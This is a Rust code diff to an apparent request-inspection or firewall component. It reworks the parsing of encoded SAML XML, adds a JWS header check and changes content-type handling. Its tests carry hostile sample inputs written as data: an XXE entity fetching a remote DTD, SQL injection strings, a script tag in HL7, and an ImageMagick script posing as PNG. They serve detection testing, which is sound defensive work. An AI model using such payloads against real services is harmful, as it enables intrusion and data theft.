@@ -867,8 +867,8 @@ fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String
 /// a SAML message, a storage key in JSON): the standard or URL-safe alphabet, at least
 /// [`MIN_EMBEDDED_BASE64`] characters, decoding to UTF-8 text with letters and no control
 /// characters but tabs and line breaks. It is inspected as the application will read it: a
-/// JSON document's keys and strings under `PREFIX:b64:/path`, an XML document's markup
-/// declarations (its DTD) under `PREFIX:b64:!declaration`, other text whole as one `kind`
+/// JSON document's keys and strings under `PREFIX:b64:/path`, an XML document as an XML body
+/// is read ([`xml`]) under `PREFIX:b64`, other text whole as one `kind`
 /// input under `PREFIX:b64` (outside cookies, only text of one line: more is a file's
 /// content). Base64 of binary (random ids, signatures, hashes) is left alone, and so is a JWT
 /// (dots are not base64): its claims are the identity stage's to verify.
@@ -926,10 +926,11 @@ fn base64_document(
     let label = format!("{}:b64", prefix());
     let first = decoded.iter().find(|b| !b.is_ascii_whitespace());
     if kind != Kind::CookieValue {
-        // An XML message (SAML's, sent base64 by design) is read for its DTD: external
-        // entities there are what its parser fetches. Its URLs and names are data.
+        // An XML message (SAML's, sent base64 by design) is read as a body of XML is: its
+        // DTD is what its parser fetches, and its values (a `NameID`, an attribute's value,
+        // a `SessionIndex`) are what the service provider looks up and shows.
         if first == Some(&b'<') {
-            xml_declarations(c, &decoded, &label);
+            xml(c, &decoded, &label, SAML_ENDPOINTS);
             return;
         }
         // Text of several lines is a file's content (GitHub's contents API, attachments):
@@ -985,9 +986,8 @@ fn hidden_encoding(name: &[u8]) -> bool {
 const SAML_INFLATED_MAX: usize = 64 * 1024;
 
 /// A SAML message of the redirect binding: base64 of raw DEFLATE (SAML 2.0 bindings, 3.4.4).
-/// The identity provider inflates and parses it, so its markup declarations (a DTD with
-/// external entities) are read as those of a SAML message posted in base64 are, under
-/// `LABEL:deflate:!declaration`. Inflating stops at [`SAML_INFLATED_MAX`] bytes, and what it
+/// The identity provider inflates and parses it, so it is read as a SAML message posted in
+/// base64 is ([`base64_document`]), under `LABEL:deflate`. Inflating stops at [`SAML_INFLATED_MAX`] bytes, and what it
 /// gave up to there is read.
 fn saml_redirect(c: &mut Collector<'_>, value: &[u8], label: &str) {
     use base64::Engine as _;
@@ -1019,30 +1019,7 @@ fn saml_redirect(c: &mut Collector<'_>, value: &[u8], label: &str) {
         Err(e) => e.output,
     };
     if doc.trim_ascii_start().first() == Some(&b'<') {
-        xml_declarations(c, &doc, &format!("{label}:deflate"));
-    }
-}
-
-/// The markup declarations of an XML document (`<!DOCTYPE …>`, `<!ENTITY …>`), each as a
-/// [`Kind::Declaration`] under `PREFIX:!declaration`; comments and CDATA are not ones.
-fn xml_declarations(c: &mut Collector<'_>, doc: &[u8], prefix: &str) {
-    let mut rest = doc;
-    for _ in 0..8 {
-        let Some(at) = memchr::memmem::find(rest, b"<!") else {
-            return;
-        };
-        rest = &rest[at..];
-        let end = memchr::memchr(b'>', rest).map_or(rest.len(), |e| e + 1);
-        if !rest.starts_with(b"<!--") && !rest.starts_with(b"<![CDATA[") {
-            c.push(
-                format!("{prefix}:!declaration"),
-                Kind::Declaration,
-                rest[..end].to_vec(),
-                false,
-                false,
-            );
-        }
-        rest = &rest[end..];
+        xml(c, &doc, &format!("{label}:deflate"), SAML_ENDPOINTS);
     }
 }
 
@@ -1371,6 +1348,15 @@ fn header(c: &mut Collector<'_>, name: &[u8], value: &[u8]) {
         prefix.make_ascii_lowercase();
         json_walk(c, value, &prefix);
     }
+    // A JWS in a header of its own (Open Banking's detached `x-jws-signature`, a DPoP
+    // proof): its header's key pointers, and `alg: none`, under `header:NAME:jose`.
+    if kind == Kind::HeaderValue && value.starts_with(b"eyJ") && !c.full() {
+        let mut label = String::from("header:");
+        push_label_part(&mut label, name);
+        label.make_ascii_lowercase();
+        label.push_str(":jose");
+        jwt_header(c, value, &label);
+    }
 }
 
 /// Charsets a request body or a multipart part may declare: ASCII supersets, whose text the
@@ -1472,7 +1458,7 @@ fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
         // JSON under an XML type is read as JSON: services that take either (Zimbra's SOAP
         // endpoint) look at the body, not at its label.
         if !(looks_like_json(body) && json_or_lines(c, body, "json")) {
-            xml(c, body);
+            xml(c, body, "xml", &[]);
         }
     } else if pickle_runs(body) {
         c.anomaly(
@@ -1482,9 +1468,10 @@ fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
         );
     } else if mt == "message/rfc822" {
         mail_message(c, body);
-    } else if mt.starts_with("text/")
-        || (mt.starts_with("application/") && !is_binary_type(&mt))
-        || (mt.starts_with("application/vnd.") && !binary_bytes(body))
+    } else if !is_binary_type(&mt)
+        && (mt.starts_with("text/")
+            || (mt.starts_with("application/") && !mt.starts_with("application/vnd."))
+            || !binary_bytes(body))
     {
         xmlrpc_logins(c, body);
         // JSON sent under another name (`text/plain` from `navigator.sendBeacon`, an error
@@ -1579,12 +1566,13 @@ fn is_binary_type(mt: &str) -> bool {
             | "application/cbor"
             | "application/msgpack"
     ) || mt.starts_with("application/grpc")
-        || mt.starts_with("application/vnd.")
 }
 
 /// Whether content is binary rather than text: a NUL, or bytes that are not UTF-8, in its
-/// first 512 bytes. A vendor's type (`application/vnd.flux`, a query language's) is read as
-/// text when its body is text.
+/// first 512 bytes. A body of a vendor's type (`application/vnd.flux`, a query language's),
+/// of a type outside `application/` and `text/` (HL7's `x-application/hl7-v2+er7`, an
+/// `image/png` that is an ImageMagick script) or of an unknown top-level type is read as
+/// text when it is text: what the application parses is its bytes, not its label.
 fn binary_bytes(content: &[u8]) -> bool {
     match std::str::from_utf8(&content[..content.len().min(512)]) {
         Ok(t) => t.contains('\0'),
@@ -2313,7 +2301,7 @@ fn multipart_part(
                 .as_deref()
                 .is_some_and(|t| t.starts_with("image/") && !image_magic(content));
         if part_ct.as_deref() == Some("image/svg+xml") && inert_svg(content) {
-            xml(c, content);
+            xml(c, content, "xml", &[]);
         } else if textual {
             c.push(
                 format!("file-content:{field}"),
@@ -2362,7 +2350,7 @@ fn multipart_part(
             multipart(c, content, b.as_bytes(), framing, true);
         }
         // The root of a SOAP message with attachments (`application/xop+xml`) is a document.
-        Some(t) if !form_data && t.ends_with("xml") => xml(c, content),
+        Some(t) if !form_data && t.ends_with("xml") => xml(c, content, "xml", &[]),
         _ => {
             // A field holding a JSON document is parsed by the application as one (the
             // GraphQL multipart request's `operations`, a filter sent as text), and may be
@@ -3006,13 +2994,36 @@ fn disposition_params(v: &[u8]) -> Vec<(String, Vec<u8>)> {
 /// A tolerant, bounded XML scanner: element text and attribute values become inputs labelled
 /// `xml:/root/elem` and `xml:/root/elem@attr`. Not a validating parser; markup it does not
 /// understand is skipped.
-fn xml(c: &mut Collector<'_>, body: &[u8]) {
+/// Where a SAML message says it goes and whom it is for (local names): the identity
+/// provider and the service provider compare them with their own settings and send the
+/// browser there; neither fetches them, so an address inside a network (a test set-up's
+/// `https://localhost/saml/acs`) is no request forgery. Not read in an encoded XML message.
+const SAML_ENDPOINTS: &[&str] = &[
+    "AssertionConsumerServiceURL",
+    "Audience",
+    "Destination",
+    "Issuer",
+    "Recipient",
+];
+
+/// Whether the last name of `path` (an element path, or `element@attribute`), without its
+/// namespace prefix, is one of `names`.
+fn named_in(path: &str, names: &[&str]) -> bool {
+    let last = path.rsplit(['/', '@']).next().unwrap_or(path);
+    let local = last.rsplit(':').next().unwrap_or(last);
+    names.contains(&local)
+}
+
+/// Reads an XML document under `prefix`: text and CDATA as values under `PREFIX:/a/b`,
+/// attributes under `PREFIX:/a/b@name`, markup declarations under `PREFIX:!declaration`.
+/// Values of elements and attributes named in `unread` are skipped.
+fn xml(c: &mut Collector<'_>, body: &[u8], prefix: &str, unread: &[&str]) {
     if let Some(encoding) = xml_encoding(body)
         && hidden_encoding(encoding)
     {
         c.anomaly(
             rules::PROTO_CHARSET,
-            "xml:!encoding",
+            &format!("{prefix}:!encoding"),
             &String::from_utf8_lossy(encoding),
         );
     }
@@ -3025,9 +3036,9 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
             continue;
         }
         let text = body[text_start..i].trim_ascii();
-        if !text.is_empty() {
+        if !text.is_empty() && !stack.last().is_some_and(|e| named_in(e, unread)) {
             c.push(
-                format!("xml:/{}", stack.join("/")),
+                format!("{prefix}:/{}", stack.join("/")),
                 Kind::Value,
                 text.to_vec(),
                 false,
@@ -3040,7 +3051,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
             let end = memchr::memmem::find(&rest[9..], b"]]>").map_or(body.len(), |e| i + 9 + e);
             let data = &body[(i + 9).min(end)..end];
             c.push(
-                format!("xml:/{}", stack.join("/")),
+                format!("{prefix}:/{}", stack.join("/")),
                 Kind::Value,
                 data.to_vec(),
                 false,
@@ -3080,13 +3091,19 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
                     .unwrap_or(pi.len());
                 let target = &pi[..target_end];
                 if !target.is_empty() && !target.eq_ignore_ascii_case(b"xml") {
-                    xml_attributes(c, &pi[target_end..], &format!("?{}", label_part(target)));
+                    xml_attributes(
+                        c,
+                        &pi[target_end..],
+                        prefix,
+                        &format!("?{}", label_part(target)),
+                        unread,
+                    );
                 }
             }
             if rest.starts_with(b"<!") && !rest.starts_with(b"<!--") {
                 // DOCTYPE / ENTITY declarations can carry XXE; inspect them as a value.
                 c.push(
-                    "xml:!declaration".to_owned(),
+                    format!("{prefix}:!declaration"),
                     Kind::Declaration,
                     inner.to_vec(),
                     false,
@@ -3122,7 +3139,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
         {
             c.anomaly(
                 rules::NODE_PROTOTYPE,
-                &format!("xml:/{}/{name}", stack.join("/")),
+                &format!("{prefix}:/{}/{name}", stack.join("/")),
                 &name,
             );
         }
@@ -3131,7 +3148,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
         } else {
             format!("{}/{}", stack.join("/"), name)
         };
-        xml_attributes(c, &tag[name_end..], &here);
+        xml_attributes(c, &tag[name_end..], prefix, &here, unread);
         if !self_closing && stack.len() < c.limits.max_json_depth {
             stack.push(name);
         }
@@ -3307,7 +3324,13 @@ fn html_element(path: &str) -> bool {
     HTML_ELEMENTS.binary_search(&local.as_str()).is_ok()
 }
 
-fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
+fn xml_attributes(
+    c: &mut Collector<'_>,
+    mut a: &[u8],
+    prefix: &str,
+    element: &str,
+    unread: &[&str],
+) {
     for _ in 0..32 {
         a = a.trim_ascii_start();
         let Some(eq) = memchr::memchr(b'=', a) else {
@@ -3325,7 +3348,7 @@ fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
         let value = &rest[1..1 + close];
         // An event handler on an HTML or SVG element (the XHTML narrative of a FHIR resource,
         // markup in a feed or a document format): whatever renders the element runs it.
-        let label = format!("xml:/{element}@{name}");
+        let label = format!("{prefix}:/{element}@{name}");
         if event_handler(&name) && html_element(element) && !value.trim_ascii().is_empty() {
             c.anomaly(rules::XSS_EVENT_HANDLER, &label, &name);
         }
@@ -3336,7 +3359,9 @@ fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
             false,
             false,
         );
-        c.push(label, Kind::Value, value.to_vec(), false, false);
+        if !named_in(&name, unread) {
+            c.push(label, Kind::Value, value.to_vec(), false, false);
+        }
         a = &rest[close + 2..];
     }
 }
@@ -3399,6 +3424,15 @@ mod tests {
             vec![("body".into(), String::from_utf8_lossy(flux).into_owned())]
         );
         assert!(bodies("application/vnd.ms-excel", b"\xd0\xcf\x11\xe0\0\0").is_empty());
+        // Outside `application/` and `text/` too (HL7's type, an image that is a script).
+        let hl7 = b"MSH|^~\\&|EPIC|LAB|||20240514||ADT^A04|1|P|2.5.1\rPID|1||x||<script>x</script>";
+        assert_eq!(bodies("x-application/hl7-v2+er7", hl7).len(), 1);
+        assert_eq!(
+            bodies("image/png", b"push graphic-context\nviewbox 0 0 640 480").len(),
+            1
+        );
+        assert!(bodies("image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").is_empty());
+        assert!(bodies("application/octet-stream", b"plain text").is_empty());
     }
 
     #[test]
@@ -4333,7 +4367,7 @@ mod tests {
         let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
         let filter = b64(r#"{"where":"status='active') UNION SELECT 1--"}"#);
         let saml = b64(
-            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response Destination=\"https://localhost/acs\"/>",
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response Destination=\"https://localhost/acs\"><saml:Issuer>https://localhost/idp</saml:Issuer><saml:NameID>admin' OR '1'='1</saml:NameID></samlp:Response>",
         );
         let script = b64("#!/bin/sh\nnpm test\n");
         let query = format!(
@@ -4360,12 +4394,19 @@ mod tests {
         assert!(
             labels(&x, Kind::Name).contains(&("json:/criteria:/token/$ne".into(), "$ne".into()))
         );
-        // SAML: the DTD, not the URLs that are data.
+        // SAML: the DTD and the values, but not where the message goes and whom it is for.
         let decl = labels(&x, Kind::Declaration);
         assert_eq!(decl.len(), 1, "{decl:?}");
         assert_eq!(decl[0].0, "query:SAMLResponse:b64:!declaration");
         assert!(decl[0].1.contains("<!ENTITY % x SYSTEM"));
-        assert!(!vals.iter().any(|(l, _)| l.contains("SAMLResponse:b64:xml")));
+        assert!(vals.contains(&(
+            "query:SAMLResponse:b64:/samlp:Response/saml:NameID".into(),
+            "admin' OR '1'='1".into()
+        )));
+        assert!(
+            !vals.iter().any(|(_, v)| v.contains("localhost")),
+            "{vals:?}"
+        );
         // A file's content of several lines is stored, not interpreted.
         assert!(!vals.iter().any(|(l, _)| l.starts_with("query:file:b64")));
     }
